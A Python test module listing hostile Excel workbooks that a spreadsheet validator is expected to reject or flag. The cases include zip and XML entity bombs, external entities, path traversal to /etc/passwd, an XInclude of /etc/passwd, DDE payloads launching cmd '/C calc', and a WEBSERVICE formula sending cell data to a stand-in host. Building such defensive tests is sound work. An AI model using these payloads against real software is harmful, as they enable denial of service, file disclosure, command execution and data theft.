"""Files made to harm whoever opens them: each is kept out, or read with nothing in it obeyed."""

from __future__ import annotations

from tests.cli.spoiling import filled
from tests.returned.kind import Kind, grouped, rejected, returned
from tests.returned.spoilt import (
    LAUGHS,
    ONE,
    OUTSIDE,
    RELS,
    SHEET,
    STRINGS,
    before,
    carrying,
    cell,
    commented,
    far_everywhere,
    listed,
    long_sizes,
    many_cells,
    named,
    noise,
    other_name,
    overlapping,
    patched,
    quoted,
    related,
    renamed_inside,
    repeated,
    sheets,
    streamed,
    strings,
    styled,
    two_of_one,
    two_tables,
)
from tests.workbooks.handmade import MAIN, OFFICE, PARTS, pack, sheet, workbook

__all__ = ["KINDS", "bombs"]

_BOMBS: tuple[Kind, ...] = (
    rejected(
        "part that unpacks a thousandfold",
        lambda: carrying({"xl/media/a.png": bytes(40 * 2**20)}),
        "FILE-BOMB",
        "tỷ lệ nén quá cao",
    ),
    rejected("parts that lie in each other", quoted, "FILE-BOMB", "chồng lên nhau"),
    rejected(
        "2,001 parts",
        lambda: pack({f"xl/{k}": "" for k in range(2001)}),
        "FILE-BOMB",
        "quá nhiều phần",
    ),
    rejected("directory of 100,000 lines", listed, "FILE-BOMB", "quá nhiều phần"),
    rejected(
        "200 MB in many parts",
        lambda: workbook({f"xl/media/{k}.bin": bytes(9 * 2**20) for k in range(23)}),
        "FILE-BOMB",
        "giải nén ra quá lớn",
    ),
    rejected(
        "more strings announced than there are",
        lambda: strings('uniqueCount="4294967295"><si><t>a</t></si>'),
        "FILE-BOMB",
        "số chuỗi chữ",
    ),
    rejected(
        "number of strings with 5,000 digits",
        lambda: strings(f'uniqueCount="{"9" * 5000}"><si><t>a</t></si>'),
        "FILE-BOMB",
        "số chuỗi chữ",
    ),
    rejected(
        "one string of 9 MB",
        lambda: strings(f'uniqueCount="1"><si><t>{noise(1000) * 9_000}</t></si>'),
        "FILE-BOMB",
        "chữ trong ô dài",
    ),
    rejected("one string in 20,000 cells", repeated, "FILE-BOMB", "chữ trong ô dài"),
    rejected("600,000 cells", many_cells, "FILE-BOMB", "quá nhiều ô"),
    rejected(
        "millions of elements",
        lambda: workbook(sheet(ONE, f"<!--{noise(250_000)}-->" + "<b/>" * 3_100_000)),
        "FILE-BOMB",
        "quá nhiều thành phần",
    ),
    rejected(
        "100,001 merged ranges",
        lambda: workbook(
            sheet(
                ONE, after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_001 + "</mergeCells>"
            )
        ),
        "FILE-BOMB",
        "quá nhiều thành phần",
    ),
    rejected(
        "tag of 2 MB",
        lambda: workbook(sheet(f'<row a="{noise(2_000_000)}"/>')),
        "FILE-DAMAGED",
        "viết sai",
    ),
    rejected(
        "10,000 made-up names",
        lambda: workbook(sheet("".join(f"<row x{k}='1'/>" for k in range(10_000)))),
        "FILE-DAMAGED",
        "viết sai",
    ),
    rejected(
        "row number with a million digits",
        lambda: workbook(sheet(f'<row r="{"9" * 1_000_000}"/>')),
        "FILE-DAMAGED",
        "viết sai",
    ),
    rejected("3,000 sheets that are one part", two_of_one, "FILE-DAMAGED", "danh sách trang"),
    rejected(
        "billion laughs",
        lambda: (
            strings("").replace(b"", b"")
            and workbook({STRINGS: f'{LAUGHS}<sst xmlns="{MAIN}"><si><t>&d;</t></si></sst>'})
        ),
        "FILE-DTD",
    ),
    rejected(
        "entity from a file",
        lambda: carrying({"docProps/core.xml": f"{OUTSIDE}<a>&a;</a>"}),
        "FILE-DTD",
    ),
    rejected(
        "entity in the relationships",
        lambda: workbook({RELS: OUTSIDE + PARTS[RELS]}),
        "FILE-DTD",
    ),
)

_DISGUISES: tuple[Kind, ...] = (
    rejected("something before the archive", before, "FILE-DAMAGED", "cấu trúc nén sai"),
    rejected("archive in the comment of another", commented, "FILE-DAMAGED", "cấu trúc nén sai"),
    rejected("part with two names", renamed_inside, "FILE-DAMAGED", "cấu trúc nén sai"),
    rejected(
        "part with another name in an extra field", other_name, "FILE-DAMAGED", "cấu trúc nén sai"
    ),
    rejected(
        "part with two sizes",
        lambda: patched(workbook(), b"xl/styles.xml", 22, b"\x07\0\0\0"),
        "FILE-DAMAGED",
        "cấu trúc nén sai",
    ),
    rejected(
        "part named ../../x", lambda: workbook({"../../x.xml": "<a/>"}), "FILE-BOMB", "trỏ ra ngoài"
    ),
    rejected(
        "part named /etc/x", lambda: workbook({"/etc/x.xml": "<a/>"}), "FILE-BOMB", "trỏ ra ngoài"
    ),
    rejected("part named C:x", lambda: workbook({"C:x.xml": "<a/>"}), "FILE-BOMB", "trỏ ra ngoài"),
    rejected(
        "part named with a line break",
        lambda: workbook({"xl/a\nLỖI b.xml": "<a/>"}),
        "FILE-BOMB",
        "trỏ ra ngoài",
    ),
    rejected(
        "part twice, in other case",
        lambda: workbook({"XL/worksheets/SHEET1.xml": "<a/>"}),
        "FILE-BOMB",
        "hai phần trùng tên",
    ),
    rejected(
        "sheet outside the file",
        lambda: related(
            'Target="worksheets/sheet1.xml"',
            'Target="http://x.invalid/a.xml" TargetMode="External"',
        ),
        "FILE-DAMAGED",
        "danh sách trang",
    ),
    rejected(
        "sheet at ../../../etc/passwd",
        lambda: related("worksheets/sheet1.xml", "../../../etc/passwd"),
        "FILE-DAMAGED",
        "thiếu một phần",
    ),
    rejected(
        "relationship twice",
        lambda: related(
            "</Relationships>",
            f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="x.xml"/></Relationships>',
        ),
        "FILE-DAMAGED",
    ),
    rejected(
        "another workbook for other programs",
        lambda: workbook(
            {"_rels/.rels": PARTS["_rels/.rels"].replace("xl/workbook.xml", "xl/other.xml")}
        ),
        "FILE-DAMAGED",
        "danh sách trang",
    ),
    rejected(
        "strings where only one reader looks",
        two_tables,
        "FILE-DAMAGED",
        "danh sách trang",
    ),
    rejected(
        "sheet in UTF-16",
        lambda: workbook({SHEET: PARTS[SHEET].encode("utf-16")}),
        "FILE-DAMAGED",
        "viết sai",
    ),
    rejected(
        "sheet in UTF-7",
        lambda: workbook({SHEET: '<?xml version="1.0" encoding="UTF-7"?>' + PARTS[SHEET]}),
        "FILE-DAMAGED",
        "viết sai",
    ),
    returned("archive written as a stream", streamed, "", exit_code=0, clean=True),
    returned("archive with long sizes", long_sizes, "", exit_code=0, clean=True),
)

_READ: tuple[Kind, ...] = (
    returned(
        "zip within the workbook",
        lambda: carrying({"xl/media/a.zip": pack({"b": bytes(2**22)})}),
        "",
        exit_code=0,
        clean=True,
    ),
    returned(
        "100,000 levels of XML",
        lambda: carrying({"docProps/app.xml": "<a>" * 100_000 + "</a>" * 100_000}),
        "",
        exit_code=0,
        clean=True,
    ),
    returned(
        "XInclude",
        lambda: carrying(
            {
                "docProps/app.xml": (
                    '<a xmlns:i="http://www.w3.org/2001/XInclude">'
                    '<i:include href="file:///etc/passwd"/></a>'
                )
            }
        ),
        "",
        exit_code=0,
        clean=True,
    ),
    returned("far references everywhere", far_everywhere, "", exit_code=0, clean=True),
    returned("30,000 merged ranges over each other", overlapping, "", exit_code=0, clean=True),
    returned("1,900 sheets more", lambda: sheets(1900), "READ-031", exit_code=0),
    returned(
        "70,000 looks and a number format of 240,000 letters", styled, "", exit_code=0, clean=True
    ),
    returned("20,000 defined names", named, "", exit_code=0, clean=True),
    returned(
        "macros under another name",
        lambda: carrying({"xl/a.dat": b"\0"}, "vbaProject", "a.dat"),
        "READ-010",
        exit_code=0,
    ),
    returned(
        "macro sheet of Excel 4",
        lambda: carrying(
            {"xl/macrosheets/sheet1.xml": "<a/>"}, "xlMacrosheet", "macrosheets/sheet1.xml"
        ),
        "READ-010",
        exit_code=0,
    ),
    returned(
        "DDE link",
        lambda: carrying(
            {
                "xl/externalLinks/externalLink1.xml": (
                    '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
                )
            },
            "externalLink",
            "externalLinks/externalLink1.xml",
        ),
        "READ-011",
        exit_code=0,
    ),
    returned(
        "query of a web page",
        lambda: carrying(
            {"xl/connections.xml": "<connections/>"}, "connections", "connections.xml"
        ),
        "READ-011",
        exit_code=0,
    ),
    returned(
        "embedded object",
        lambda: carrying({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "READ-035",
        exit_code=0,
    ),
    returned(
        "ActiveX control",
        lambda: carrying({"xl/activeX/activeX1.bin": b"\0"}),
        "READ-035",
        exit_code=0,
    ),
    returned(
        "ribbon that starts something",
        lambda: carrying({"customUI/customUI14.xml": '<customUI onLoad="calc"/>'}),
        "READ-035",
        exit_code=0,
    ),
    returned(
        "web add-in",
        lambda: carrying({"xl/webextensions/webextension1.xml": "<a/>"}),
        "READ-035",
        exit_code=0,
    ),
    returned(
        "DDE formula",
        lambda: cell("G11", "<f>cmd|'/C calc'!A0</f><v>Chợ xanh</v>"),
        "FLD-003",
        "G11",
        exit_code=0,
    ),
    returned(
        "formula that asks the web",
        lambda: cell("G11", '<f>WEBSERVICE("http://x.invalid/"&amp;A1)</f><v>Chợ xanh</v>'),
        "FLD-003",
        "G11",
        exit_code=0,
    ),
    returned(
        "32,767 letters in a cell",
        lambda: filled(ten_mo_hinh="Mô hình " + "a" * 32_000),
        "FLD-019",
        "G11",
    ),
    returned(
        "million letters in a cell",
        lambda: cell("G11", f"<is><t>{noise(1_000_000)}</t></is>", "inlineStr"),
        "FLD-019",
        "G11",
    ),
    rejected(
        "two million letters in a cell",
        lambda: cell("G11", f"<is><t>{noise(2_000_000)}</t></is>", "inlineStr"),
        "FILE-BOMB",
        "chữ trong ô dài",
    ),
    returned(
        "control characters in a cell",
        lambda: cell("G11", "<is><t>Chợ_x0007_ _x001B_[31m xanh_x0000_</t></is>", "inlineStr"),
        "",
        "",
        exit_code=0,
    ),
    returned(
        "writing direction turned in a cell",
        lambda: filled(ten_mo_hinh="Chợ \u202exlsx.hnax\u202c xanh"),
        "",
        "",
        exit_code=0,
    ),
)

KINDS: tuple[Kind, ...] = grouped("Hostile files", *_BOMBS, *_DISGUISES, *_READ)


def bombs() -> tuple[Kind, ...]:
    """Those that are made to take memory, time or the whole process."""
    return _BOMBS
